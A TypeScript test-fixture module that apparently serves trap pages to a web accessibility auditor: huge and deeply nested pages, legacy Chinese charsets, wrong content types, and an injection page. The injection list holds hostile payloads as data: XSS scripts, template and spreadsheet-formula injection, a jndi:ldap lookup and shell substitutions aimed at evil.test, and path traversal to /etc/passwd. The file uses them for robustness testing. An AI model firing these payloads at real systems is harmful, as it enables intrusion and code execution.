import { encode } from '../encode.ts';
import { audited, failed, html, page, send, type Trap } from './trap.ts';

const many = (count: number, piece: (i: number) => string): string =>
  Array.from({ length: count }, (_, i) => piece(i)).join('');

/** A page in an old character set; `meta` names one in the page, or '' none. */
const old = (charset: 'gbk' | 'big5', text: string, meta: string): Uint8Array =>
  encode(
    `<!DOCTYPE html><html><head>${meta && `<meta charset="${meta}">`}<title>${text}</title></head><body><h1>${text}</h1><p>${text}</p></body></html>`,
    charset,
  );

/** Text that would do harm where it is not escaped: HTML, templates, spreadsheets, terminals, logs. */
const injections = [
  '<script>alert(1)</script>',
  '</script><script>alert(2)</script>',
  '</title></textarea><img src=x onerror=alert(3)>',
  '{{constructor.constructor("return 1")()}}{{{raw}}}{{#each x}}',
  '=HYPERLINK("http://evil.test","点我")',
  "+1+cmd|'/c calc'!A1",
  '\u001b[31m\u001b]0;title\u0007红色',
  '\u202e反转\u2066隔离\u200b零宽',
  'a\u0000b\u0008\u007f',
  '%s%n%x ${jndi:ldap://evil.test/a} $(touch /tmp/evil) `id`',
  '../../../../etc/passwd',
  '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 \ud800',
];
const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const longText = (length: number): string => {
  const text = '长'.repeat(length);
  return `<p><a href="javascript:alert(4)" title="${text}">${text}</a></p><img alt="${text}" src="x.png">`;
};

const injected = (): string =>
  html(
    escaped(injections.join(' ')),
    many(injections.length, (i) => {
      const text = escaped(injections[i] ?? '');
      return `<p><a href="/?q=${encodeURIComponent(`<${i}>`)}" id="${text}" class="${text}">${text}</a><img src="x.png" title="${text}"><img src="x.png" alt="${text}"></p>`;
    }) + longText(2 ** 14),
    `<meta name="SiteName" content="${escaped(injections[0] ?? '')}"><meta name="${escaped('__proto__')}" content="x">`,
  );

const typed = (
  path: string,
  expected: Trap['expected'],
  type: string,
  extra: Readonly<Record<string, string>> = {},
): Trap => ({
  path,
  expected,
  answer: (response) => send(response, html(path.slice(1), ''), 200, { 'content-type': type, ...extra }),
});

/** Pages that are too big, in another character set, of another type, or full of nasty text. */
export const contentTraps: readonly Trap[] = [
  page('/big', [audited, failed('timeout'), failed('hung')], `<p>${'大页面。'.repeat(1_500_000)}</p>`), // 18 MB
  page(
    '/links',
    [audited, failed('hung'), failed('timeout')],
    many(100_000, (i) => `<a href="/generated/${i}.html">${i}</a> `),
  ),
  page(
    '/nodes',
    [audited, failed('hung'), failed('timeout')],
    many(200_000, (i) => `<i>${i % 10}</i>`),
  ),
  page(
    '/deep',
    [audited, failed('crashed'), failed('hung')],
    '<script>var at = document.body; for (var i = 0; i < 5000; i++) at = at.appendChild(document.createElement("div")); at.textContent = "底";</script>',
  ),
  page(
    '/shadow',
    [audited],
    `<div id="h"></div><script>var at = document.getElementById("h"); for (var i = 0; i < 50; i++) { at = at.attachShadow({ mode: i % 7 === 6 ? "closed" : "open" }).appendChild(document.createElement("div")); } at.innerHTML = "<button></button>";</script>`,
  ),
  { path: '/injections', expected: [audited], answer: (response) => send(response, injected()) },
  page('/long-texts', [audited, failed('hung'), failed('timeout')], longText(2 ** 20)), // axe alone needs seconds for them
  {
    path: '/charset-wrong',
    expected: [audited],
    answer: (response) => send(response, old('gbk', '政务公开', 'gbk')), // the header says utf-8
  },
  {
    path: '/charset-meta',
    expected: [audited],
    answer: (response) =>
      send(response, old('gbk', '政务公开', 'gb2312'), 200, { 'content-type': 'text/html' }),
  },
  {
    path: '/charset-none-gbk',
    expected: [audited],
    answer: (response) =>
      send(response, old('gbk', '青城区人民政府政务公开目录', ''), 200, { 'content-type': 'text/html' }),
  },
  {
    path: '/charset-none-big5',
    expected: [audited],
    answer: (response) =>
      send(response, old('big5', '區公所便民服務公告', ''), 200, { 'content-type': 'text/html' }),
  },
  {
    path: '/charset-unknown',
    expected: [audited],
    answer: (response) =>
      send(response, html('未知编码', ''), 200, { 'content-type': 'text/html; charset=none-such' }),
  },
  typed('/type-none', [audited, failed('not-html')], ''),
  typed('/type-plain', [failed('not-html')], 'text/plain; charset=utf-8'),
  typed('/type-json', [failed('not-html')], 'application/json'),
  typed('/type-image', [failed('not-html')], 'image/png'),
  typed('/type-xhtml', [audited, failed('not-html'), failed('empty')], 'application/xhtml+xml'),
  typed('/type-binary', [failed('download'), failed('not-html')], 'application/octet-stream'),
  typed('/download', [failed('download')], 'text/html; charset=utf-8', {
    'content-disposition': 'attachment; filename="../../evil.html"',
  }),
];
